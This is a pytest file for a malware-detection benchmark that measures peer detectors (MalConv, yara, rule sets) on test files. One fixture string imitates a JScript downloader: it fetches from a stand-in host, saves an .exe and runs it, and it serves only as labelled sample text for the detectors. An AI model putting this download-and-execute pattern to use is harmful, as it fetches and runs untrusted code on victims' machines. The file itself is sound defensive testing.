"""Peers get files through a pipe and are measured on the test files, with our rules alone beside them."""

import io
import json
import sys
from pathlib import Path

import numpy as np
import pytest
import torch

from anshin.engine.features import names
from anshin.training.corpora import Label, Sample
from anshin.training.errors import CorpusError
from anshin.training.evaluate.metrics import wilson
from anshin.training.evaluate.peers import Contestant, measure
from anshin.training.project import Project
from anshin.training.split import Part, Rules
from anshin.training.tables.store import Row, make_table, write_table
from benchmarks.detection import files
from benchmarks.detection.__main__ import Given, one_family
from benchmarks.detection.environment import PeerError, prepare, weights
from benchmarks.detection.pipe import Peer

HARMLESS = b"function add(a, b) { return a + b; }\nconsole.log(add(1, %d));\n"
LOUD = (
    b"var s = new ActiveXObject('WScript.Shell'); var x = new ActiveXObject('MSXML2.XMLHTTP');\n"
    b"var a = new ActiveXObject('ADODB.Stream'); x.open('GET', 'http://example.invalid/%d', false); x.send();\n"
    b"a.Write(x.ResponseBody); a.SaveToFile('nothing.exe', 2); s.Run('nothing.exe', 0);\n"
)
"""Text that asks for what downloaders ask for, and that nobody runs."""


@pytest.mark.parametrize(
    ("hits", "total", "low", "high"),
    [(0, 10, 0.0, 0.27753), (5, 10, 0.23659, 0.76341), (10, 10, 0.72247, 1.0), (0, 0, 0.0, 1.0)],
)
def test_interval_of_wilson(hits, total, low, high):
    found = wilson(hits, total)
    assert [found.low, found.high] == pytest.approx([low, high], abs=1e-5)


def test_unread_file_counts_as_not_reported():
    labels = {**{f"b{n:03}": 0 for n in range(400)}, **{f"m{n}": 1 for n in range(4)}}
    scores = {h: {"x": 0.1} for h in labels if h != "m0"} | {"m1": {"x": 0.9}, "m2": {"x": 0.9}, "b000": {"x": 0.95}}
    row = measure([Contestant("x", "1", 0.5), Contestant("y", "1", None)], labels, scores)
    assert row["x"]["unread"] == 1
    assert (row["x"]["own"]["tpr"]["hits"], row["x"]["own"]["fpr"]["hits"]) == (2, 1)
    assert row["x"]["at_fpr"]["0.01"]["tpr"]["hits"] == 2
    assert row["y"]["own"] is None
    assert row["y"]["unread"] == 404
    assert row["y"]["roc_auc"] == 0.5
    few = measure([Contestant("x", "1", 0.5)], {h: v for h, v in labels.items() if h < "b020" or v}, scores)
    assert few["x"]["at_fpr"]["0.01"] is None, "20 benign files cannot show one in a hundred"


def made_weights() -> tuple[dict[str, torch.Tensor], bytes]:
    torch.manual_seed(5)
    shapes = {
        "embedding_1.weight": (257, 8), "conv1d_1.weight": (128, 8, 500), "conv1d_1.bias": (128,),
        "conv1d_2.weight": (128, 8, 500), "conv1d_2.bias": (128,), "dense_1.weight": (128, 128),
        "dense_1.bias": (128,), "dense_2.weight": (1, 128), "dense_2.bias": (1,),
    }  # fmt: skip
    state = {name: torch.randn(shape) * 0.05 for name, shape in shapes.items()}
    out = io.BytesIO()
    torch.save(state, out)
    return state, out.getvalue()


def whole(state: dict[str, torch.Tensor], data: bytes) -> float:
    """The same network over the whole mebibyte, layer by layer."""
    numbers = torch.full((1 << 20,), 256)
    numbers[: len(data)] = torch.from_numpy(np.frombuffer(data[: 1 << 20], np.uint8).astype(np.int64))
    x = state["embedding_1.weight"][numbers].T[None]
    a, b = (
        torch.nn.functional.conv1d(x, state[f"conv1d_{n}.weight"], state[f"conv1d_{n}.bias"], stride=500)
        for n in (1, 2)
    )
    pooled = (torch.relu(a) * torch.sigmoid(b)).amax(dim=2)
    hidden = torch.relu(pooled @ state["dense_1.weight"].T + state["dense_1.bias"])
    return float(torch.sigmoid(hidden @ state["dense_2.weight"].T + state["dense_2.bias"]))


def test_malconv_reads_its_weights_and_gives_the_score_of_the_whole_window():
    state, raw = made_weights()
    chance = np.random.default_rng(3)
    with Peer(Path(sys.executable), "malconv", raw) as peer:
        for size in (1, 499, 500, 12_345):
            data = chance.integers(0, 256, size, dtype=np.uint8).tobytes()
            assert peer.scores(data)["malconv"] == pytest.approx(whole(state, data), abs=1e-6)


def script(folder: Path, body: str) -> Path:
    path = folder / "fake.py"
    path.write_text(
        f"import json, sys\nsys.path.insert(0, {str(files.__file__)!r}.rpartition('/')[0])\nimport peer\n{body}"
    )
    return path


def test_peer_that_fails_on_a_file_goes_on_and_one_that_ends_is_told(tmp_path):
    body = """
def score():
    def one(data):
        if data == b"bad":
            raise ValueError("no")
        if data == b"write":
            open(sys.argv[0] + ".out", "wb", buffering=0).write(b"x" * 9)
        return {"fake": len(data)}
    return one
peer.malconv = score
while True:
    peer.main()
    break
"""
    path = script(tmp_path, body)
    with Peer(Path(sys.executable), "malconv", script=path) as one:
        assert one.scores(b"bad") == {}
        assert one.scores(b"four") == {"fake": 4}
        assert one.scores(b"") == {"fake": 0}
        assert one.scores(b"write") == {}
    assert (tmp_path / "fake.py.out").stat().st_size == 0, "the process may write no file"
    with (
        Peer(Path(sys.executable), "malconv", script=script(tmp_path, "sys.exit()")) as one,
        pytest.raises(PeerError, match="run it by hand"),
    ):
        one.scores(b"x" * 1_000_000)


def test_environment_or_weights_that_cannot_be_had_are_told(tmp_path, monkeypatch):
    with pytest.raises(PeerError, match="clone it bare"):
        weights(tmp_path)
    monkeypatch.setattr("benchmarks.peers.sys.executable", str(tmp_path / "none"))
    with pytest.raises(PeerError, match="--without"):
        prepare("oletools", tmp_path)


@pytest.fixture
def given(tmp_path, monkeypatch) -> Given:
    """A project of harmless and of loud scripts, whose files come out of memory."""
    layout, rows, samples = names("javascript"), [], []
    for n in range(90):
        bad = n % 3 == 0
        label = Label.MALICIOUS if bad else Label.BENIGN
        source = ("m" if n < 60 else "later") if bad else "b"
        sample = Sample((LOUD if bad else HARMLESS) % n, f"{n}.js", label, source, group="" if bad else f"g{n}")
        samples.append(sample)
        values = np.zeros(len(layout), np.float32)
        rows.append(Row(sample.sha256, str(label), source, "", "", sample.group, f"c{n}", sample.name, values))
    (tmp_path / "tables").mkdir()
    write_table(make_table("javascript", layout, rows), tmp_path / "tables" / "javascript.parquet")
    rules = Rules(
        "javascript",
        {"malicious": (Part("m"),), "benign": (Part("b"),)},
        {"malicious": (Part("later"),), "benign": (Part("b", share=0.4),)},
        0.01,
    )
    monkeypatch.setattr("anshin.training.project.rules", lambda: {"javascript": rules})
    monkeypatch.setattr(files, "samples_of", lambda ids, *_: (s for s in samples if s.source in ids))
    return Given(Project(tmp_path), tmp_path, None, None, tmp_path, frozenset())


def test_rules_alone_are_measured_on_exactly_the_test_files(given):
    document = one_family(given, "javascript")
    written = given.project.result("javascript", "peers")
    assert written == json.loads(json.dumps(document))
    assert written is not None
    labels = files.test_labels(given.project, "javascript")
    rules = written["peers"]["rules"]
    assert rules["files"] == len(labels)
    assert written["counts"]["malicious"] == rules["own"]["tpr"]["total"] == 10
    assert rules["own"]["tpr"]["hits"] == 10
    assert written["peers"]["yara"]["own"]["tpr"]["hits"] == 10
    assert rules["own"]["fpr"]["hits"] == 0
    assert rules["roc_auc"] == 1.0
    assert set(written["peers"]) == {"rules", "yara"}


def test_test_file_that_is_nowhere_is_told(given, monkeypatch):
    monkeypatch.setattr(files, "samples_of", lambda *_: iter(()))
    with pytest.raises(CorpusError, match="test files are in no repository"):
        one_family(given, "javascript")
